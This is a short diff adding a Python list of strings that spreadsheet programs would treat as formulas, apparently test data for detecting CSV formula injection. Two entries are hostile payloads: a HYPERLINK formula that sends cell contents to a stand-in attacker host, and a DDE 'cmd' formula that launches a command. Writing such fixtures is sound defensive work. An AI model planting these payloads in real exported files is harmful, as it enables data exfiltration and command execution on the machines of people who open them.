@@ -1,0 +1,19 @@
+"""Texts that one program or another would calculate."""
+
+from __future__ import annotations
+
+FORMULAS = [
+    "=1+1",
+    "+1",
+    "-1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    " =1",
+    "＝1",
+    "x,=1",
+    "x;=1",
+    "x, @A1",
+    '=HYPERLINK("http://evil.example?"&A1;"x")',
+    "=cmd|' /C calc'!A0",
+]
